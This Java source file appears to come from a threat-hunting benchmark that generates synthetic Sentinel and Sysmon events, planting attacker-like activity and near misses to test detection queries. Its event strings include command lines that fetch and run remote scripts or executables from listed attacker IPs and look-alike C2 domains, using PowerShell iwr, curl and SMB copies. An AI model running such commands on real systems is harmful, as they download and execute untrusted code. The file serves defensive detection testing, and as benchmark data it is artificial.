package org.huntindex.bench.generate;

import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.SplittableRandom;
import org.huntindex.bench.generate.Population.Account;
import org.huntindex.bench.generate.Population.Host;
import org.huntindex.bench.generate.Programs.Net;
import org.huntindex.bench.generate.SysEvent.Proc;

/**
 * The planted events: true positives of every hunt and the near misses around them (HUNTS.md A.4, A.5, B.5, B.6),
 * in rounds spread over the collection's time span. Whether a planted event is a positive is not decided here: the
 * reference models decide that over the whole collection.
 */
final class Plants {
  /** Public addresses an intrusion might use; none of them occurs in the noise. */
  private static final String[] ATTACKER_V4 = {"45.33.32.156", "185.220.101.47", "91.219.236.174", "193.29.56.122",
      "45.77.65.211", "5.188.86.172", "89.248.165.74", "194.26.29.113", "103.145.13.246", "141.98.10.60",
      "179.43.142.186", "92.118.160.61", "162.247.74.27", "51.89.115.30", "77.247.181.165", "37.120.233.226",
      "146.70.124.88", "62.233.50.245", "195.123.245.79", "80.66.88.204"};
  private static final String[] ATTACKER_V6 = {"2a01:4f8:c17:b8f::2", "2607:5300:203:2d6::24", "2a03:b0c0:3:d0::1a51"};
  private static final String[] C2_NAMES = {"cdn-updates.azureedge-check.net", "telemetry.msft-update.org",
      "static.cloudfront-cdn.info", "api.windowsupdate-kb.com", "sync.onedrive-live.net"};

  final List<SecEvent> sentinel = new ArrayList<>();
  final List<SysEvent> sysmon = new ArrayList<>();

  private final Population pop;
  private final Shapes s;
  private int ip;

  private Plants(Population pop, long seed) {
    this.pop = pop;
    this.s = new Shapes(new SplittableRandom(seed ^ 0x91a7_7edL));
  }

  /**
   * @param rounds how many times the scenarios are planted
   * @param unicodeBoundaries also plant K37 ({@code é} before a quad), where RE2's ASCII {@code \b} and current Kusto's
   *     Unicode {@code \b} disagree
   */
  static Plants create(Population pop, long seed, long startTicks, long spanTicks, int rounds,
      boolean unicodeBoundaries) {
    Plants p = new Plants(pop, seed);
    for (int r = 0; r < rounds; r++) {
      long base = startTicks + (long) (spanTicks * (0.05 + 0.85 * (r + p.s.rng.nextDouble()) / rounds));
      p.huntA(base, unicodeBoundaries);
      p.huntB(base);
    }
    if (pop.hosts.length >= 200) {
      p.widespread(startTicks + spanTicks / 3);
    }
    p.sentinel.sort(Comparator.comparingLong(e -> e.ticks));
    p.sysmon.sort(Comparator.comparingLong(e -> e.millis));
    return p;
  }

  // ---- hunt A: Sentinel 4688 rows ----

  private void huntA(long t, boolean unicodeBoundaries) {
    String a1 = attacker();
    Host h = host();
    shell(t, h, user(h), "cmd.exe /c ping -n 1 " + a1);                               // K01: kept
    shell(t + minutes(47), h, user(h), "cmd.exe /c ping -n 1 " + a1);                 // same group, LastSeen later
    String a2 = attacker();
    String line = "cmd.exe /c \"C:\\Users\\Public\\svc.cmd\" " + a2 + " 443";           // K22: three hosts
    for (int i = 0; i < 3; i++) {
      Host hi = host();
      shell(t + minutes(5 + 20 * i), hi, user(hi), line);
    }
    Host h3 = host();
    powershell(t + minutes(9), h3, user(h3), "powershell.exe -nop -w hidden -c iwr " + attacker()
        + " -OutFile C:\\Users\\Public\\a.exe");                                         // kept
    shell(t + minutes(13), h3, user(h3), "cmd.exe /c nslookup update.example.net 1.1.1.1 & ping -n 2 "
        + attacker());                                                                   // K07/K29: second quad kept
    shell(t + minutes(15), h3, h3.machine(), "cmd.exe /c ping 127.0.0.53");             // K17: loopback is not private
    shell(t + minutes(17), h3, user(h3), "cmd.exe /c ftp -s:C:\\Users\\Public\\f.txt 100.64.12.34"); // K18: CGNAT
    Host h4 = host();
    SecEvent ise = shell(t + minutes(19), h4, user(h4), "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
        + "powershell_ise.exe\" -File C:\\Tools\\probe.ps1 -Target " + attacker() + " -Port 8443"); // K33
    ise.image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe";
    String pair = "cmd.exe /c ping -n 3 " + attacker();                                 // K34: Process case splits
    shell(t + minutes(21), host(), null, pair);
    Host h5 = host();
    shell(t + minutes(22), h5, user(h5), pair).image = "C:\\WINDOWS\\SYSTEM32\\CMD.EXE";

    Host m = host();
    Account u = user(m);
    shell(t + minutes(30), m, u, "cmd.exe /c ping 8.8.8.8");                           // K02: 1-digit last octet
    shell(t + minutes(31), m, u, "cmd.exe /c curl -s http://" + attacker() + "/x.ps1 -o %TEMP%\\x.ps1"); // K04
    powershell(t + minutes(32), m, u, "powershell.exe -c iwr " + attacker() + ":8080/s.ps1 -UseBasicParsing"); // K05
    shell(t + minutes(33), m, u, "cmd.exe /c ping 192.168.1.10 -n 1");                // K21: private
    SecEvent pwsh = shell(t + minutes(34), m, u, "pwsh.exe -c ping " + attacker());   // K14: pwsh is not a term match
    pwsh.image = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
    shell(t + minutes(35), m, u, "cmd.exe /c net use \\\\" + attacker() + "\\share");  // K08: \\IP
    shell(t + minutes(36), m, u, "cmd.exe /c ver 1.2.3.4.5");                          // K09
    shell(t + minutes(37), m, u, "cmd.exe /c ping " + attacker() + "\t-n 1");          // K27: TAB after the quad
    SecEvent x = shell(t + minutes(38), m, u, "xcmd.exe /c ping " + attacker());       // K15
    x.image = "C:\\Tools\\xcmd.exe";
    shell(t + minutes(39), m, u, "");                                                  // K28: audit without command line
    shell(t + minutes(40), m, u, "cmd.exe /c echo 1.2.3.45x");                         // K30
    shell(t + minutes(41), m, u, "cmd.exe /c ping 256.1.1.10");                        // K32
    shell(t + minutes(42), m, u, "cmd.exe /c tracert -d " + attacker() + "/24");       // K36-like
    if (unicodeBoundaries) {
      shell(t + minutes(43), m, u, "cmd.exe /c ping é8.8.8.8 1.1.1.11");             // K37: kept by current Kusto
    }
    SecEvent exit = new SecEvent();                                                    // K16: 4689, same image
    exit.ticks = t + minutes(44);
    exit.eventId = 4689;
    exit.host = m;
    exit.account = u;
    exit.image = Programs.CMD;
    exit.pid = s.pid();
    sentinel.add(exit);
    SecEvent wfp = new SecEvent();                                                     // 5156: no entity id, no join
    wfp.ticks = t + minutes(45);
    wfp.eventId = 5156;
    wfp.host = m;
    wfp.image = Programs.CMD;
    wfp.pid = s.pid();
    wfp.sourceIp = m.ip();
    wfp.sourcePort = s.n(49152, 65535);
    wfp.destIp = attacker();
    wfp.destPort = 445;
    sentinel.add(wfp);
  }

  /** One command line run on 150 hosts: makeset's cap of 128 (K26). */
  private void widespread(long t) {
    String line = "cmd.exe /c \"C:\\ProgramData\\Inventory\\report.cmd\" 20.42.73.29";
    for (int i = 0; i < 150; i++) {
      Host h = pop.hosts[i];
      shell(t + minutes(i), h, h.machine(), line);
    }
  }

  private SecEvent shell(long t, Host h, Account a, String commandLine) {
    return process(t, h, a, Programs.CMD, commandLine);
  }

  private SecEvent powershell(long t, Host h, Account a, String commandLine) {
    return process(t, h, a, Programs.POWERSHELL, commandLine);
  }

  private SecEvent process(long t, Host h, Account a, String image, String commandLine) {
    SecEvent e = new SecEvent();
    e.ticks = t + s.n(0, 9_999_999);
    e.eventId = 4688;
    e.host = h;
    e.account = a == null ? user(h) : a;
    e.image = image;
    e.commandLine = commandLine;
    e.parentImage = Programs.EXPLORER;
    e.pid = s.pid();
    e.parentPid = s.pid();
    sentinel.add(e);
    return e;
  }

  // ---- hunt B: Sysmon 1/3/22 ----

  private void huntB(long ticks) {
    long t = ticks / Clock.TICKS_PER_MS + 3_600_000L;
    String a = attacker();
    Proc p = cmd(t, "cmd.exe /c copy \\\\" + a + "\\pub\\upd.exe %TEMP%\\upd.exe");   // E01
    net(t + 2_000, p, a, 445);
    String c2 = s.pickOf(C2_NAMES);
    p = cmd(t + 60_000, "cmd.exe /c type \\\\" + c2 + "\\s\\run.txt");                 // E11: DNS, no destination.ip
    dns(t + 61_000, p, c2);
    String v6 = s.pickOf(ATTACKER_V6);
    p = cmd(t + 120_000, "cmd.exe /c dir \\\\" + v6.replace(':', '-') + ".ipv6-literal.net\\share"); // E09
    net(t + 121_500, p, v6, 445);
    p = cmd(t + 180_000, "cmd.exe /c copy \\\\fs01.corp.contoso.com\\tools\\x.exe . & x.exe"); // E29
    net(t + 181_000, p, s.privateIp(), 445);
    net(t + 183_000, p, attacker(), 445);
    p = cmd(t + 240_000, "cmd.exe /c more < \\\\" + (a = attacker()) + "\\pub\\cfg.txt");  // E20: one per start
    net(t + 241_000, p, a, 445);
    net(t + 242_000, p, a, 139);
    p = cmd(t + 300_000, "cmd.exe /c copy \\\\" + (a = attacker()) + "\\pub\\r.bat %TEMP%"); // E21: start logged twice
    start(t + 300_500, p, "cmd.exe /c copy \\\\" + a + "\\pub\\r.bat %TEMP%");
    net(t + 302_000, p, a, 445);
    Proc upper = proc(host(), "C:\\WINDOWS\\SYSTEM32\\CMD.EXE");                        // E15: process.name CMD.EXE
    start(t + 360_000, upper, "CMD.EXE /C copy \\\\" + (a = attacker()) + "\\x\\y.dll .");
    net(t + 361_000, upper, a, 445);
    p = cmd(t + 420_000, "cmd.exe /c copy \\\\172.32.14.9\\drop\\a.exe .");           // E06: 172.32/12 is public
    net(t + 421_000, p, "172.32.14.9", 445);
    p = cmd(t + 480_000, "cmd.exe /c type \\\\wpad.corp.contoso.com\\wpad.dat");      // E13: only "wpad" is excluded
    dns(t + 480_900, p, "wpad.corp.contoso.com");

    Proc late = proc(host(), Programs.CMD);                                           // E02: network before start
    net(t + 540_000, late, attacker(), 445);
    start(t + 541_000, late, "cmd.exe /c echo late");
    p = cmd(t + 600_000, "cmd.exe /c copy \\\\100.64.3.7\\share\\a.txt .");           // E04: CGNAT excluded
    net(t + 601_000, p, "100.64.3.7", 445);
    p = cmd(t + 660_000, "cmd.exe /c net use \\\\localhost\\c$");                     // E05 E07 E08 E10 E32 E33
    String[] excluded = {"127.0.0.1", "::1", "fe80::1c2d:3e4f:5a6b:7c8d", "ff02::fb", "224.0.0.251",
        "255.255.255.255", "198.19.4.5", "192.0.0.171", "169.254.10.20"};
    for (int i = 0; i < excluded.length; i++) {
      net(t + 661_000 + 1_000 * i, p, excluded[i], 445);
    }
    p = cmd(t + 720_000, "cmd.exe /c ipconfig /flushdns");                           // E12 E35
    String[] names = {"WPAD", "wpad", "localhost", "ocsp.digicert.com", "OCSP.Sectigo.com"};
    for (int i = 0; i < names.length; i++) {
      dns(t + 721_000 + 1_000 * i, p, names[i]);
    }
    p = cmd(t + 780_000, "cmd.exe /c powershell -nop -c iwr https://" + s.pickOf(C2_NAMES) + "/p.ps1"); // E19 E27
    Proc child = proc(p.host(), Programs.POWERSHELL);
    start(t + 780_400, child, "powershell -nop -c iwr https://" + s.pickOf(C2_NAMES) + "/p.ps1").parent = p;
    net(t + 781_000, child, attacker(), 443);
    Proc zero = proc(host(), Programs.CMD);                                           // E26: all-zero GUID
    start(t + 840_000, zero, "cmd.exe /c copy \\\\" + (a = attacker()) + "\\s\\z.exe .").withEntityId = false;
    net(t + 841_000, zero, a, 445).withEntityId = false;
  }

  private Proc cmd(long t, String commandLine) {
    Proc p = proc(host(), Programs.CMD);
    start(t, p, commandLine);
    return p;
  }

  private Proc proc(Host h, String image) {
    Account a = user(h);
    StringBuilder g = new StringBuilder(38).append('{').append(h.guidPrefix()).append('-').append(s.hex(4))
        .append("-66").append(s.hex(2)).append('-').append(s.hex(4)).append('-').append(s.hex(12)).append('}');
    return new Proc(g.toString(), s.pid(), image, h, a, Net.SHELL);
  }

  private SysEvent start(long t, Proc p, String commandLine) {
    SysEvent e = new SysEvent();
    e.millis = t;
    e.code = 1;
    e.host = p.host();
    e.proc = p;
    e.parent = new Proc("{" + p.host().guidPrefix() + "-" + s.hex(4) + "-66" + s.hex(2) + "-" + s.hex(4) + "-"
        + s.hex(12) + "}", s.pid(), Programs.EXPLORER, p.host(), p.user(), Net.INTERNAL);
    e.commandLine = commandLine;
    sysmon.add(e);
    return e;
  }

  private SysEvent net(long t, Proc p, String dest, int port) {
    SysEvent e = new SysEvent();
    e.millis = t;
    e.code = 3;
    e.host = p.host();
    e.proc = p;
    e.transport = "tcp";
    e.destIp = dest;
    e.destPort = port;
    e.sourceIp = dest.indexOf(':') >= 0 ? "fe80::" + s.hex(4) + ":1" : p.host().ip();
    e.sourcePort = s.n(49152, 65535);
    sysmon.add(e);
    return e;
  }

  private void dns(long t, Proc p, String name) {
    SysEvent e = new SysEvent();
    e.millis = t;
    e.code = 22;
    e.host = p.host();
    e.proc = p;
    e.dnsName = name;
    sysmon.add(e);
  }

  // ---- shared ----

  /** The next attacker address with a final octet of two or three digits, round-robin. */
  private String attacker() {
    return ATTACKER_V4[ip++ % ATTACKER_V4.length];
  }

  private Host host() {
    return pop.hosts[s.rng.nextInt(pop.hosts.length)];
  }

  private Account user(Host h) {
    return s.chance(0.7) ? h.owner() : pop.accounts[s.rng.nextInt(pop.accounts.length)];
  }

  private long minutes(long m) {
    return m * 60 * Clock.TICKS_PER_SECOND;
  }
}
